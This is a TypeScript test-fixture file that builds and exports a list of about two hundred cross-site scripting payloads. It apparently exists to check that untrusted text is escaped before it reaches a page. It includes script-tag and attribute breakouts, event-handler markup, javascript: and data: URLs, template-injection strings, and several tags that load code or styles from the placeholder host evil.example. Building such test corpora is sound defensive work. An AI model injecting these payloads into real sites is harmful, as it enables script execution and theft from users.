/** What becomes a script, a frame or a request where text is put into a page as it is. `HIT` runs in every one. */
const HIT = 'window.hit=1'

const scripts = [
  `<script>${HIT}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<script/x>${HIT}</script>`,
  `<script\n>${HIT}</script\n>`,
  `<script>${HIT}`,
  `<script src="data:text/javascript,${HIT}"></script>`,
  `<script type="module">${HIT}</script>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><script href="data:,${HIT}"/></svg>`,
  `<math><script>${HIT}</script></math>`,
  `<template><script>${HIT}</script></template>`,
  `<noscript><p title="</noscript><script>${HIT}</script>">`,
  `<textarea></textarea><script>${HIT}</script>`,
  `<title></title><script>${HIT}</script>`,
  `<xmp></xmp><script>${HIT}</script>`,
]

/** Ways out of the place where a text may stand: a script's data, a comment, an attribute, a template. */
const exits = [
  `</script><script>${HIT}</script>`,
  `</SCRIPT ><svg onload=${HIT}>`,
  `<!--<script>`,
  `<!--<script>--><script>${HIT}</script>`,
  `--><script>${HIT}</script>`,
  `--!><script>${HIT}</script>`,
  `]]><script>${HIT}</script>`,
  `"><script>${HIT}</script>`,
  `'><script>${HIT}</script>`,
  `\`\${${HIT}}\``,
  `{{constructor.constructor('${HIT}')()}}`,
  `\${${HIT}}`,
  `<%= ${HIT} %>`,
  `\u2028${HIT}\u2029`,
  `");${HIT};//`,
  `');${HIT};//`,
  `\\");${HIT};//`,
  `\\u003c/script\\u003e\\u003cscript\\u003e${HIT}`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `&#60;script&#62;${HIT}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${HIT}&#x3e;`,
  `%3Cscript%3E${HIT}%3C/script%3E`,
  `＜script＞${HIT}＜/script＞`,
  `</title><svg onload=${HIT}>`,
  `</textarea><svg onload=${HIT}>`,
  `</style><svg onload=${HIT}>`,
  `</body></html><svg onload=${HIT}>`,
  `\u0000<svg onload=${HIT}>`.slice(1),
  `$&<svg onload=${HIT}>$'$\``,
]

const tags = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'p',
  'a href=#',
]
const events = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onclick',
  'onpointerenter',
  'onanimationstart',
  'ontouchstart',
]
const handlers = tags.flatMap((tag) => events.map((event) => `<${tag} ${event}=${HIT}>x`))

const spellings = [
  `<img src=x onerror="${HIT}">`,
  `<img/src=x/onerror=${HIT}>`,
  `<IMG SRC=x OnErRoR=${HIT}>`,
  `<img src=x onerror\n=\n${HIT}>`,
  `<img src=x onerror=&#119;indow.hit=1>`,
  `<img src='x' alt="a" onerror='${HIT}'>`,
  `<img src="x"onerror="${HIT}">`,
  `<img src=\`x\`onerror=${HIT}>`,
  `<img alt='" onerror=${HIT} x="' src=x>`,
  `<img src="x' onerror=${HIT} '">`,
  `<img src=x:x onerror=${HIT}//`,
  `<<img src=x onerror=${HIT}>>`,
  `<img src="x>" onerror=${HIT}>`,
  `<img alt="><img src=x onerror=${HIT}>" src=x>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<svg><image href=x onerror=${HIT}>`,
  `<svg><style><img src=x onerror=${HIT}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HIT}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${HIT}>`,
  `<table background="javascript:${HIT}"><tr><td>x</table>`,
  `<marquee onstart=${HIT}>x</marquee>`,
  `<select autofocus onfocus=${HIT}><option>x</select>`,
  `<keygen autofocus onfocus=${HIT}>`,
  `<x onclick=${HIT} style="position:fixed;inset:0">x</x>`,
  `<custom-thing onpointerdown=${HIT}>x</custom-thing>`,
]

const addresses = [
  `javascript:${HIT}`,
  `JaVaScRiPt:${HIT}`,
  `java\tscript:${HIT}`,
  `java\nscript:${HIT}`,
  ` javascript:${HIT}`,
  `\u0001javascript:${HIT}`,
  `&#106;avascript:${HIT}`,
  `javascript&colon;${HIT}`,
  `javascript://mall.test/%0a${HIT}`,
  `data:text/html,<script>parent.${HIT}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${HIT}'/>`,
  `vbscript:msgbox(1)`,
  `blob:https://evil.example/1`,
  `view-source:javascript:${HIT}`,
]
const holders: ((address: string) => string)[] = [
  (one) => `<a href="${one}">x</a>`,
  (one) => `<img src="${one}">`,
  (one) => `<iframe src="${one}"></iframe>`,
  (one) => `<form action="${one}"><button>x</button></form>`,
]
const leading = addresses.flatMap((address) => holders.map((hold) => hold(address)))

const others = [
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<object data="javascript:${HIT}"></object>`,
  `<embed src="javascript:${HIT}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${HIT}">`,
  `<link rel="stylesheet" href="//evil.example/x.css">`,
  `<link rel="import" href="//evil.example/x.html">`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<p style="background:url(javascript:${HIT})">x</p>`,
  `<p style="width:expression(${HIT})">x</p>`,
  `<p style="-moz-binding:url(//evil.example/x)">x</p>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${HIT}'/>#x"/></svg>`,
  `<svg><a xlink:href="javascript:${HIT}"><text>x</text></a></svg>`,
  `<isindex action=javascript:${HIT} type=image>`,
  `<button formaction="javascript:${HIT}">x</button>`,
]

/** About two hundred; every one in the length of an ordinary text field. */
export const hostileMarkup: readonly string[] = [...scripts, ...exits, ...handlers, ...spellings, ...leading, ...others]
/** Some of each kind, and every way out: for what takes its time. */
export const someHostileMarkup: readonly string[] = [
  ...new Set([...exits, ...hostileMarkup.filter((_, i) => i % 8 === 0)]),
]
